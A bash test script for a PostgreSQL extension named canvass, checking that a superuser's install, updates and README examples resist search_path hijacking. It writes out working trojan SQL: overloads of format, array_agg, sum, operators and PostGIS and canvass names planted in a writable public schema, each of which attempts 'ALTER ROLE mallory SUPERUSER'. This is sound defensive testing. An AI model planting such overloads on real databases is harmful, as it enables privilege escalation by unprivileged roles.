#!/usr/bin/env bash
# Attack: an unprivileged role plants trojans where a superuser's install,
# update or use of canvass could resolve a name to them, and must gain
# nothing.
#
# mallory has CREATE on schema public (as in every database upgraded from
# PostgreSQL 14 or older, where public is writable by all) and CREATE on the
# database.  She plants, in public: format() with 3, 4 and 5 text arguments
# (which match better than pg_catalog.format(text, VARIADIC "any")),
# array_agg and sum overloads, operators = and || on argument types that
# pg_catalog resolves only through a cast, st_* overloads, and overloads of
# canvass's own names with integer and numeric argument types.  Each trojan
# logs to a table and tries ALTER ROLE mallory SUPERUSER as whoever runs it,
# then returns the right answer, as a real one would.  A superuser then
# creates canvass, updates it from each earlier release, and runs every
# README example.  Pass: the log stays empty and mallory is no superuser.
# A second database shows that a canvass schema created by mallory before
# the install is refused (42501), with her overload never installed beside
# canvass's functions, and so is a canvass_internal schema (where canvass
# keeps its aggregates' support functions) that she creates before the
# install or an update.
set -u
. "$(dirname "$0")/tap.sh"
db=canvass_attack
readme=${README:-README.md doc/*.md}
# The test's own checks run with search_path = pg_catalog, so that they
# cannot run a trojan themselves (an unqualified oid = regnamespace would).
CHECK=(env PGOPTIONS="-c search_path=pg_catalog" "${PSQL[@]}")

"${PSQL[@]}" -d postgres <<'SQL' >/dev/null
DROP DATABASE IF EXISTS canvass_attack;
DROP DATABASE IF EXISTS canvass_attack_schema;
DROP ROLE IF EXISTS mallory;
CREATE ROLE mallory LOGIN NOSUPERUSER NOCREATEROLE NOCREATEDB;
CREATE DATABASE canvass_attack;
CREATE DATABASE canvass_attack_schema;
GRANT CREATE ON DATABASE canvass_attack_schema TO mallory;
SQL
ok $? "a database, and mallory, a role with no privileges"

# The administrator's set-up: PostGIS in public, public writable by all (as
# before PostgreSQL 15), and a log that any role may append to.
"${PSQL[@]}" -d "$db" <<'SQL' >/dev/null
CREATE EXTENSION postgis;
GRANT CREATE ON SCHEMA public TO PUBLIC;
CREATE TABLE public.trojan_log (trojan text, run_by name DEFAULT current_user);
GRANT INSERT ON public.trojan_log TO PUBLIC;
SQL
ok $? "PostGIS in a public schema that every role may write to"
"${PSQL[@]}" -d "$db" -f "$(dirname "$0")/readme_fixtures.sql" >/dev/null
ok $? "the tables README's examples read (test/sh/readme_fixtures.sql)"

# mallory's trojans.  trojan(name) logs and tries to escalate; each planted
# function calls it, then computes what the real one would.
plant=$(cat <<'SQL'
CREATE FUNCTION public.trojan(what text) RETURNS void LANGUAGE plpgsql AS $t$
BEGIN
  INSERT INTO public.trojan_log (trojan) VALUES (what);
  BEGIN
    EXECUTE 'ALTER ROLE mallory SUPERUSER';
  EXCEPTION WHEN OTHERS THEN NULL;
  END;
END $t$;
CREATE FUNCTION public.format(text, text) RETURNS text LANGUAGE plpgsql AS
  $t$ BEGIN PERFORM public.trojan('format/2'); RETURN pg_catalog.format($1, $2); END $t$;
CREATE FUNCTION public.format(text, text, text) RETURNS text LANGUAGE plpgsql AS
  $t$ BEGIN PERFORM public.trojan('format/3'); RETURN pg_catalog.format($1, $2, $3); END $t$;
CREATE FUNCTION public.format(text, text, text, text) RETURNS text LANGUAGE plpgsql AS
  $t$ BEGIN PERFORM public.trojan('format/4'); RETURN pg_catalog.format($1, $2, $3, $4); END $t$;
CREATE FUNCTION public.format(text, text, text, text, text) RETURNS text LANGUAGE plpgsql AS
  $t$ BEGIN PERFORM public.trojan('format/5'); RETURN pg_catalog.format($1, $2, $3, $4, $5); END $t$;
CREATE FUNCTION public.trojan_int_sfunc(integer[], integer) RETURNS integer[] LANGUAGE plpgsql AS
  $t$ BEGIN PERFORM public.trojan('array_agg(integer)'); RETURN $1 || $2; END $t$;
CREATE AGGREGATE public.array_agg(integer) (SFUNC = public.trojan_int_sfunc, STYPE = integer[]);
CREATE FUNCTION public.trojan_text_sfunc(text[], text) RETURNS text[] LANGUAGE plpgsql AS
  $t$ BEGIN PERFORM public.trojan('array_agg(text)'); RETURN $1 || $2; END $t$;
CREATE AGGREGATE public.array_agg(text) (SFUNC = public.trojan_text_sfunc, STYPE = text[]);
CREATE FUNCTION public.trojan_sum_sfunc(double precision, double precision[]) RETURNS double precision
  LANGUAGE plpgsql AS $t$ BEGIN PERFORM public.trojan('sum(float8[])'); RETURN $1; END $t$;
CREATE AGGREGATE public.sum(double precision[]) (SFUNC = public.trojan_sum_sfunc, STYPE = double precision);
CREATE FUNCTION public.trojan_eq(integer, numeric) RETURNS boolean LANGUAGE plpgsql AS
  $t$ BEGIN PERFORM public.trojan('integer = numeric'); RETURN $1::numeric OPERATOR(pg_catalog.=) $2; END $t$;
CREATE OPERATOR public.= (LEFTARG = integer, RIGHTARG = numeric, FUNCTION = public.trojan_eq);
CREATE FUNCTION public.trojan_eq_ns(oid, regnamespace) RETURNS boolean LANGUAGE plpgsql AS
  $t$ BEGIN PERFORM public.trojan('oid = regnamespace'); RETURN $1 OPERATOR(pg_catalog.=) $2::oid; END $t$;
CREATE OPERATOR public.= (LEFTARG = oid, RIGHTARG = regnamespace, FUNCTION = public.trojan_eq_ns);
CREATE FUNCTION public.trojan_cat(text, integer) RETURNS text LANGUAGE plpgsql AS
  $t$ BEGIN PERFORM public.trojan('text || integer'); RETURN $1 OPERATOR(pg_catalog.||) $2::text; END $t$;
CREATE OPERATOR public.|| (LEFTARG = text, RIGHTARG = integer, FUNCTION = public.trojan_cat);
SQL
)
# Trojans aimed at canvass's own calls: its names and PostGIS's.
targeted=$(cat <<'SQL'
CREATE FUNCTION public.st_setsrid(geometry, bigint) RETURNS geometry LANGUAGE plpgsql AS
  $t$ BEGIN PERFORM public.trojan('st_setsrid(geometry, bigint)'); RETURN public.st_setsrid($1, $2::integer); END $t$;
CREATE FUNCTION public.st_transform(geometry, bigint) RETURNS geometry LANGUAGE plpgsql AS
  $t$ BEGIN PERFORM public.trojan('st_transform(geometry, bigint)'); RETURN public.st_transform($1, $2::integer); END $t$;
CREATE FUNCTION public.st_makepoint(numeric, numeric) RETURNS geometry LANGUAGE plpgsql AS
  $t$ BEGIN PERFORM public.trojan('st_makepoint(numeric, numeric)'); RETURN public.st_makepoint($1::float8, $2::float8); END $t$;
CREATE FUNCTION public.st_pointonsurface(text) RETURNS geometry LANGUAGE plpgsql AS
  $t$ BEGIN PERFORM public.trojan('st_pointonsurface(text)'); RETURN public.st_pointonsurface($1::geometry); END $t$;
CREATE FUNCTION public.apportion(integer, integer[]) RETURNS bigint[] LANGUAGE plpgsql AS
  $t$ BEGIN PERFORM public.trojan('apportion(integer, integer[])'); RETURN NULL; END $t$;
CREATE FUNCTION public.apportion(numeric, numeric[]) RETURNS bigint[] LANGUAGE plpgsql AS
  $t$ BEGIN PERFORM public.trojan('apportion(numeric, numeric[])'); RETURN NULL; END $t$;
CREATE FUNCTION public.win_number(integer) RETURNS bigint LANGUAGE plpgsql AS
  $t$ BEGIN PERFORM public.trojan('win_number(integer)'); RETURN NULL; END $t$;
CREATE FUNCTION public.win_number(numeric) RETURNS bigint LANGUAGE plpgsql AS
  $t$ BEGIN PERFORM public.trojan('win_number(numeric)'); RETURN NULL; END $t$;
CREATE FUNCTION public.vote_goal(integer, numeric) RETURNS bigint LANGUAGE plpgsql AS
  $t$ BEGIN PERFORM public.trojan('vote_goal(integer, numeric)'); RETURN NULL; END $t$;
CREATE FUNCTION public.logit_score(jsonb, integer[]) RETURNS double precision LANGUAGE plpgsql AS
  $t$ BEGIN PERFORM public.trojan('logit_score(jsonb, integer[])'); RETURN NULL; END $t$;
CREATE FUNCTION public.trojan_et_sfunc(numeric, numeric) RETURNS numeric LANGUAGE plpgsql AS
  $t$ BEGIN PERFORM public.trojan('expected_turnout(numeric)'); RETURN $1; END $t$;
CREATE AGGREGATE public.expected_turnout(numeric) (SFUNC = public.trojan_et_sfunc, STYPE = numeric);
SQL
)
"${PSQL[@]}" -d "$db" -c "SET ROLE mallory" -c "$plant" -c "$targeted" >/dev/null
ok $? "mallory plants her trojans in public"
# What withdraws the generic trojans (format, array_agg, sum, =, ||).
withdraw="DROP FUNCTION public.format(text, text), public.format(text, text, text),
  public.format(text, text, text, text), public.format(text, text, text, text, text);
DROP FUNCTION public.trojan_int_sfunc(integer[], integer), public.trojan_text_sfunc(text[], text),
  public.trojan_sum_sfunc(double precision, double precision[]), public.trojan_eq(integer, numeric),
  public.trojan_eq_ns(oid, regnamespace), public.trojan_cat(text, integer) CASCADE;"

# The trojans are armed: a superuser's unqualified format() with three text
# arguments runs one, which is what the 0.2.0 install script did 174 times.
"${PSQL[@]}" -d "$db" -c "SELECT format('%s-%s', 'a'::text, 'b'::text)" >/dev/null
is "$("${CHECK[@]}" -d "$db" -c "SELECT count(*) FROM public.trojan_log WHERE trojan = 'format/3'")" 1 \
   "the trojans are armed: an unqualified format() as superuser runs one"
is "$("${CHECK[@]}" -d "$db" -c "SELECT rolsuper FROM pg_roles WHERE rolname = 'mallory'")" t \
   "... and it makes mallory a superuser, which is what is at stake"
"${CHECK[@]}" -d "$db" -c "ALTER ROLE mallory NOSUPERUSER" -c "TRUNCATE public.trojan_log" >/dev/null

log_is_empty() {
    is "$("${CHECK[@]}" -d "$db" -c "SELECT coalesce(string_agg(DISTINCT trojan, ', '), 'none') FROM public.trojan_log")" none "$1: no trojan ran"
    is "$("${CHECK[@]}" -d "$db" -c "SELECT rolsuper OR rolcreaterole OR rolcreatedb OR rolbypassrls FROM pg_roles WHERE rolname = 'mallory'")" f \
       "$1: mallory gained no role attribute"
    is "$("${CHECK[@]}" -d "$db" -c "SELECT count(*) FROM pg_auth_members m JOIN pg_roles r ON r.oid = m.member WHERE r.rolname = 'mallory'")" 0 \
       "$1: mallory was granted no role"
}

# 1. A fresh install, as the README says.
"${PSQL[@]}" -d "$db" -c "CREATE EXTENSION canvass CASCADE" >/dev/null
ok $? "CREATE EXTENSION canvass CASCADE with the trojans in place"
log_is_empty "install"
is "$("${CHECK[@]}" -d "$db" -c "SELECT count(*) FROM pg_proc WHERE pronamespace = 'canvass'::regnamespace AND proowner <> (SELECT oid FROM pg_roles WHERE rolname = current_user)")" 0 \
   "every function in schema canvass belongs to the installing role"
is "$("${CHECK[@]}" -d "$db" -c "SELECT has_schema_privilege('mallory', 'canvass', 'CREATE')")" f \
   "mallory cannot create objects in schema canvass"
is "$("${CHECK[@]}" -d "$db" -c "SELECT count(*) FROM pg_proc WHERE pronamespace = 'canvass_internal'::regnamespace AND proowner <> (SELECT oid FROM pg_roles WHERE rolname = current_user)")" 0 \
   "every function in schema canvass_internal belongs to the installing role"
is "$("${CHECK[@]}" -d "$db" -c "SELECT has_schema_privilege('mallory', 'canvass_internal', 'CREATE') OR has_schema_privilege('mallory', 'canvass_internal', 'USAGE')")" f \
   "mallory can neither create objects in schema canvass_internal nor use it"

# 2. Every README example, run by the superuser with the default search_path
#    ("$user", public: the trojans' schema), on the fixtures' tables.  Each
#    statement runs on its own (ON_ERROR_STOP off).  First in a database of
#    the same fixtures without trojans, where the only errors allowed are
#    those of what this cluster lacks (pg_cron, the demo's schema, a second
#    CREATE EXTENSION) and those README shows as examples of errors.  Then
#    beside the trojans aimed at canvass's own calls (overloads of its names
#    and of PostGIS's): mallory's generic ones (format, array_agg, sum, =,
#    ||), aimed at the install scripts, are withdrawn for this step, since
#    beside them the reader's own unqualified calls in the examples (such as
#    array_agg over a text column) would be captured or made ambiguous: that
#    is PostgreSQL's search_path risk, which README's Security section
#    answers (REVOKE CREATE ON SCHEMA public), not canvass's code.  They are
#    planted again for the updates.
awk '/^```sql$/ {inside = 1; next} /^```$/ {if (inside) print "-- end of example"; inside = 0; next} inside' $readme >"$TEST_TMP/readme_examples.sql"
blocks=$(grep -c '^-- end of example$' "$TEST_TMP/readme_examples.sql")
[ "$blocks" -ge 20 ]
ok $? "README has its sql examples ($blocks blocks)"
"${PSQL[@]}" -d postgres -c "DROP DATABASE IF EXISTS canvass_readme" -c "CREATE DATABASE canvass_readme" >/dev/null
"${PSQL[@]}" -d canvass_readme -c "CREATE EXTENSION canvass CASCADE" -f "$(dirname "$0")/readme_fixtures.sql" >/dev/null
# Errors README shows as examples ("-- ERROR:  message" under the call).
sed -n 's/^-- ERROR:  //p' $readme >"$TEST_TMP/readme_errors.txt"
echo 'schema "cron" does not exist' >>"$TEST_TMP/readme_errors.txt"
echo 'extension "canvass" already exists' >>"$TEST_TMP/readme_errors.txt"
echo 'procedure ga6.refresh_targets() does not exist' >>"$TEST_TMP/readme_errors.txt"
# The fixtures' 600 voters cannot reach README's GA-6 topline of 260,455.
echo 'target 260455 cannot be reached by shifting the scores' >>"$TEST_TMP/readme_errors.txt"
run_examples() {
    "$PG_BIN/psql" -X -q -d "$1" -v ON_ERROR_STOP=0 -f "$TEST_TMP/readme_examples.sql" >"$TEST_TMP/readme_examples.$1.out" 2>&1
    grep 'ERROR:' "$TEST_TMP/readme_examples.$1.out" | grep -v -F -f "$TEST_TMP/readme_errors.txt"
}
unexpected=$(run_examples canvass_readme)
[ -z "$unexpected" ]
ok $? "every README example runs on the fixtures (errors only those README shows, and for pg_cron and the demo's schema)"
[ -z "$unexpected" ] || printf '%s\n' "$unexpected" | head -20 | sed 's/^/# /'
"${PSQL[@]}" -d postgres -c "DROP DATABASE canvass_readme" >/dev/null
"${PSQL[@]}" -d "$db" -c "SET ROLE mallory" -c "$withdraw" >/dev/null
ok $? "mallory withdraws her generic trojans for the examples"
unexpected=$(run_examples "$db")
[ -z "$unexpected" ]
ok $? "beside the trojans aimed at canvass's calls too"
[ -z "$unexpected" ] || printf '%s\n' "$unexpected" | head -20 | sed 's/^/# /'
is "$("${CHECK[@]}" -d "$db" -c "SELECT canvass.apportion(101, ARRAY[1, 1, 1])")" "{34,34,33}" \
   "README's first example gives its documented answer beside public.apportion(integer, integer[])"
log_is_empty "every README example"

# 3. Updates from every earlier release, with every trojan in place again.
"${PSQL[@]}" -d "$db" -c "SET ROLE mallory" -c "$(printf '%s' "$plant" | sed '1,/^END \$t\$;$/d')" >/dev/null
ok $? "mallory plants her generic trojans again"
for v in $(ls sql/canvass--*.sql | sed -n 's|^sql/canvass--\([0-9.]*\)\.sql$|\1|p' | sort -V); do
    current=$(sed -n "s/^default_version = '\(.*\)'/\1/p" canvass.control)
    [ "$v" = "$current" ] && continue
    # CASCADE: the README's examples leave a view on canvass.project behind.
    "${PSQL[@]}" -d "$db" -c "DROP EXTENSION canvass CASCADE" -c "CREATE EXTENSION canvass VERSION '$v'" >/dev/null
    ok $? "install release $v beside the trojans"
    "${PSQL[@]}" -d "$db" -c "ALTER EXTENSION canvass UPDATE" >/dev/null
    ok $? "ALTER EXTENSION canvass UPDATE from $v"
    log_is_empty "update from $v"
done

# 4. A canvass schema that mallory created before the install, with an
#    overload of canvass's first function in it, is refused.
"${PSQL[@]}" -d canvass_attack_schema -c "CREATE EXTENSION postgis" >/dev/null
"${PSQL[@]}" -d canvass_attack_schema -c "SET ROLE mallory" -c "CREATE SCHEMA canvass" \
    -c "CREATE FUNCTION canvass.apportion(integer, integer[]) RETURNS bigint[] LANGUAGE sql AS 'SELECT NULL::bigint[]'" >/dev/null
ok $? "mallory creates schema canvass first, with an overload in it"
err=$("$PG_BIN/psql" -X -q -d canvass_attack_schema -v ON_ERROR_STOP=1 -v VERBOSITY=verbose \
      -c "\\set VERBOSITY verbose" -c "CREATE EXTENSION canvass CASCADE" 2>&1 >/dev/null)
printf '%s' "$err" | grep -q '42501' && printf '%s' "$err" | grep -q 'schema "canvass" already exists and is owned by role "mallory"'
ok $? "the install refuses her schema with 42501 and says whose it is"
printf '%s' "$err" | grep -q 'HINT:'
ok $? "... with a hint"
is "$("${CHECK[@]}" -d canvass_attack_schema -c "SELECT count(*) FROM pg_extension WHERE extname = 'canvass'")" 0 \
   "canvass is not installed there"

# Her schema handed to the superuser, her function is still there: refused too.
"${PSQL[@]}" -d canvass_attack_schema -c "ALTER SCHEMA canvass OWNER TO postgres" >/dev/null
err=$("${PSQL[@]}" -d canvass_attack_schema -c "CREATE EXTENSION canvass CASCADE" 2>&1 >/dev/null)
printf '%s' "$err" | grep -q 'already holds functions of role "mallory"'
ok $? "a superuser's schema holding a function of mallory's is refused"

# A superuser's own empty schema made ahead of time is fine.
"${PSQL[@]}" -d canvass_attack_schema -c "DROP SCHEMA canvass CASCADE" -c "CREATE SCHEMA canvass" \
    -c "CREATE EXTENSION canvass CASCADE" >/dev/null 2>&1
ok $? "an empty schema made by a superuser ahead of the install is accepted"

# 5. A canvass_internal schema (where canvass keeps its aggregates' support
#    functions) that mallory creates before the install or an update, with a
#    function of hers where canvass puts expected_turnout's final function,
#    is refused; so is one a superuser owns, since the extension creates its
#    own.
"${PSQL[@]}" -d canvass_attack_schema -c "DROP EXTENSION canvass" >/dev/null
"${PSQL[@]}" -d canvass_attack_schema -c "SET ROLE mallory" -c "CREATE SCHEMA canvass_internal" \
    -c "CREATE FUNCTION canvass_internal.expected_turnout_final(bigint[]) RETURNS jsonb LANGUAGE sql AS 'SELECT NULL::jsonb'" >/dev/null
ok $? "mallory creates schema canvass_internal first, with a function in it"
err=$("$PG_BIN/psql" -X -q -d canvass_attack_schema -v ON_ERROR_STOP=1 \
      -c "\\set VERBOSITY verbose" -c "CREATE EXTENSION canvass CASCADE" 2>&1 >/dev/null)
printf '%s' "$err" | grep -q '42501' && printf '%s' "$err" | grep -q 'schema "canvass_internal" already exists and is owned by role "mallory"' \
    && printf '%s' "$err" | grep -q 'HINT:'
ok $? "the install refuses her canvass_internal with 42501, says whose it is, and hints"
is "$("${CHECK[@]}" -d canvass_attack_schema -c "SELECT count(*) FROM pg_extension WHERE extname = 'canvass'")" 0 \
   "canvass is not installed there"
"${PSQL[@]}" -d canvass_attack_schema -c "CREATE EXTENSION canvass VERSION '0.2.0'" >/dev/null
ok $? "release 0.2.0 (which has no canvass_internal) installs beside her schema"
err=$("$PG_BIN/psql" -X -q -d canvass_attack_schema -v ON_ERROR_STOP=1 \
      -c "\\set VERBOSITY verbose" -c "ALTER EXTENSION canvass UPDATE" 2>&1 >/dev/null)
printf '%s' "$err" | grep -q '42501' && printf '%s' "$err" | grep -q 'owned by role "mallory"'
ok $? "the update to the current version refuses her canvass_internal with 42501"
is "$("${CHECK[@]}" -d canvass_attack_schema -c "SELECT extversion FROM pg_extension WHERE extname = 'canvass'")" 0.2.0 \
   "... and leaves release 0.2.0 as it was"
is "$("${CHECK[@]}" -d canvass_attack_schema -c "SELECT count(*) FROM pg_proc WHERE pronamespace = 'canvass'::regnamespace AND proname = 'expected_turnout_final'")" 1 \
   "... its support functions still in schema canvass"
"${PSQL[@]}" -d canvass_attack_schema -c "DROP EXTENSION canvass" -c "ALTER SCHEMA canvass_internal OWNER TO postgres" >/dev/null
err=$("$PG_BIN/psql" -X -q -d canvass_attack_schema -v ON_ERROR_STOP=1 \
      -c "\\set VERBOSITY verbose" -c "CREATE EXTENSION canvass CASCADE" 2>&1 >/dev/null)
printf '%s' "$err" | grep -q '42P06' && printf '%s' "$err" | grep -q 'schema "canvass_internal" already exists'
ok $? "a canvass_internal handed to a superuser is refused too (42P06)"
"${PSQL[@]}" -d canvass_attack_schema -c "DROP SCHEMA canvass_internal CASCADE" -c "CREATE EXTENSION canvass CASCADE" >/dev/null 2>&1
ok $? "with her schema dropped, canvass installs"
"${PSQL[@]}" -d canvass_attack_schema -c "SET ROLE mallory" \
    -c "CREATE FUNCTION canvass_internal.expected_turnout_final(bigint[], integer) RETURNS jsonb LANGUAGE sql AS 'SELECT NULL::jsonb'" >/dev/null 2>&1
[ $? -ne 0 ]
ok $? "mallory cannot plant a function in canvass's canvass_internal"

"${PSQL[@]}" -d postgres -c "DROP DATABASE $db" -c "DROP DATABASE canvass_attack_schema" \
    -c "DROP ROLE mallory" -c "DROP ROLE canvassers" -c "DROP ROLE organisers" -c "DROP ROLE data_team" >/dev/null
done_testing
